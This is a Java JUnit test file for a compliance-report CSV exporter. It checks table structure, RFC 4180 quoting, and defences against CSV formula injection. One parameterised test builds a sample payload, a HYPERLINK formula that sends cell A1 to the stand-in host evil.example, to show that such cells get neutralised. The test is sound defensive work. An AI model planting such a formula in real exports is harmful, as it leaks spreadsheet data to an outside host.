package org.rectrack.gateway.compliance;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.Function;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Each CSV download is one table a spreadsheet or a CSV reader (Apache Commons CSV, RFC 4180) opens as it is: one
 * header, the same number of fields on every line. And CSV injection (OWASP, "CSV Injection"): no cell a spreadsheet
 * opens may start a formula, whatever the text an NGO or an imported report put in it.
 */
class ComplianceCsvTest {

    @Test
    void theRecommendationsAreOneTableWithOneRecordPerRecommendation() throws IOException {
        ComplianceReport report = SampleReports.report();

        List<CSVRecord> records = table(ComplianceCsv.recommendations(report));

        assertThat(records).hasSize(report.recommendations().size());
        assertThat(records.get(0).get("code")).isEqualTo("LAO-2023-01");
        assertThat(records.get(0).get("recommendation")).isEqualTo(report.recommendations().get(0).text());
        assertThat(records.get(1).get("status")).isEqualTo("NO_EVIDENCE");
        assertThat(records).allSatisfy(record -> assertThat(record.get("data sha-256")).isEqualTo(report.dataSha256()));
    }

    @Test
    void theSummaryIsATableOfItsOwn() throws IOException {
        ComplianceReport report = SampleReports.report();

        List<CSVRecord> records = table(ComplianceCsv.summary(report));

        assertThat(records).extracting(record -> record.get("measure")).containsExactly("NO_EVIDENCE", "REGRESSED",
                "IMPLEMENTED", "IN_PROGRESS", "NOT_STARTED", "total", "implemented or in progress (%)",
                "previous year: implemented or in progress (%)", "change (percentage points)");
        assertThat(records).extracting(record -> record.get("value")).containsExactly("1", "0", "0", "1", "0", "2",
                "50.0", "25.0", "25.0");
    }

    @Test
    void theFiguresAreATableOfItsOwnWithAColumnPerYear() throws IOException {
        ComplianceReport report = SampleReports.report();

        List<CSVRecord> records = table(ComplianceCsv.figures(report));

        assertThat(records.getFirst().getParser().getHeaderNames()).endsWith("metric", "unit", "2021", "2022", "2023");
        assertThat(records).extracting(record -> record.get("metric") + " " + record.get("2021") + " "
                + record.get("2022") + " " + record.get("2023"))
                .containsExactly("OFFICIALS_TRAINED  120 300", "PROSECUTIONS 4  -1.5");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = { "recommendations", "summary", "figures" })
    void everyLineOfEveryDownloadHasTheHeadersFieldCount(String part) throws IOException {
        Function<ComplianceReport, byte[]> renderer = switch (part) {
            case "recommendations" -> ComplianceCsv::recommendations;
            case "summary" -> ComplianceCsv::summary;
            default -> ComplianceCsv::figures;
        };
        byte[] csv = renderer.apply(SampleReports.report());

        assertThat(csv).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(csv, StandardCharsets.UTF_8).substring(1);
        // No blank line either: a spreadsheet reads one as an empty record.
        assertThat(text).doesNotContain("\r\n\r\n").endsWith("\r\n");
        try (CSVParser parser = CSVFormat.RFC4180.parse(new StringReader(text))) {
            List<CSVRecord> lines = parser.getRecords();
            int fields = lines.getFirst().size();
            assertThat(lines).hasSizeGreaterThan(1)
                    .allSatisfy(line -> assertThat(line.size()).as("fields on line %d", line.getRecordNumber())
                            .isEqualTo(fields));
        }
    }

    /** The records under the header, each checked to have as many fields as the header. */
    private static List<CSVRecord> table(byte[] csv) throws IOException {
        String text = new String(csv, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text.substring(1)));
        List<CSVRecord> records = parser.getRecords();
        assertThat(records).allSatisfy(record -> assertThat(record.isConsistent()).isTrue());
        return records;
    }

    @ParameterizedTest(name = "a cell starting with U+{0}")
    @ValueSource(strings = { "003D", "002B", "002D", "0040", "0009", "000D", "FF1D", "FF0B", "FF0D", "FF20" })
    void aCellStartingAFormulaIsPrefixedWithAQuoteAndQuoted(String codePoint) {
        String leading = Character.toString(Integer.parseInt(codePoint, 16));
        String cell = leading + "HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";

        assertThat(ComplianceCsv.quoted(cell)).isEqualTo('"' + "'" + cell.replace("\"", "\"\"") + '"');
    }

    @ParameterizedTest(name = "white space {index} before a formula")
    @ValueSource(strings = { " =1+1", "\u00A0=1+1", "\u3000=1+1", "\n=1+1", " \t=1+1", "  @SUM(A1)", " \uFF1D1+1" })
    void whiteSpaceBeforeAFormulaDoesNotHideIt(String cell) {
        assertThat(ComplianceCsv.quoted(cell)).isEqualTo("\"'" + cell + '"');
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = { "-12", "-12.5", "0", "300" })
    void aPlainNumberStaysANumber(String cell) {
        assertThat(ComplianceCsv.quoted(cell)).isEqualTo(cell);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = { "-1+1", "-1e3", "+1", "-", "-\u0661\u0662" })
    void whatOnlyLooksLikeANumberIsNeutralised(String cell) {
        assertThat(ComplianceCsv.quoted(cell)).isEqualTo("\"'" + cell + '"');
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = { "Train police", "ສືບສວນ ແລະ ດຳເນີນຄະດີ", "a=b", "e-mail", "LAO-2023-01" })
    void ordinaryTextIsWrittenAsItIs(String cell) {
        assertThat(ComplianceCsv.quoted(cell)).isEqualTo(cell);
    }

    @ParameterizedTest(name = "{index}")
    @ValueSource(strings = { "a, b", "say \"no\"", "line\r\nbreak", "line\nbreak" })
    void aCommaAQuoteOrALineEndIsQuotedPerRfc4180(String cell) {
        assertThat(ComplianceCsv.quoted(cell)).isEqualTo('"' + cell.replace("\"", "\"\"") + '"');
    }
}
